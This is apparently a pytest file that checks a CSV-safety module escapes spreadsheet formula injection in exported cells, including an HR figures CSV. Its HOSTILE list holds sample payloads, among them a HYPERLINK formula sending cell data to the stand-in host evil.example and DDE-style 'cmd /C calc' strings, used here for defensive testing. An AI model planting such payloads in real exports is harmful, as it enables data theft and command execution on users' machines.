"""CSV formula injection: text a spreadsheet would run as a formula is written as text."""

import csv
import io

import pytest

from consent import csvsafe, figures
from consent.models import Office

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+81-52-000-0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value):
    assert csvsafe.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["名古屋国道事務所", "A=B", "", "1,000円", 42, -5, 3.5, None])
def test_ordinary_values_are_left_alone(value):
    assert csvsafe.neutralise(value) == value


def test_the_writer_neutralises_every_cell():
    stream = io.StringIO()
    csvsafe.writer(stream).writerows([HOSTILE, ["ok", 1]])
    rows = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert all(cell.startswith("'") for cell in rows[0])
    assert rows[1] == ["ok", "1"]


def test_hrs_figures_csv_writes_a_hostile_office_name_as_text(hr_client, office):
    Office.objects.create(code="666", name=HOSTILE[0], parent=office)
    figures.publish_snapshot()  # HR's CSV is a released snapshot
    text = hr_client.get("/hr/figures.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'" + HOSTILE[0] in cells
    assert not any(cell.lstrip(" ").startswith(csvsafe.FORMULA_STARTS) for cell in cells)
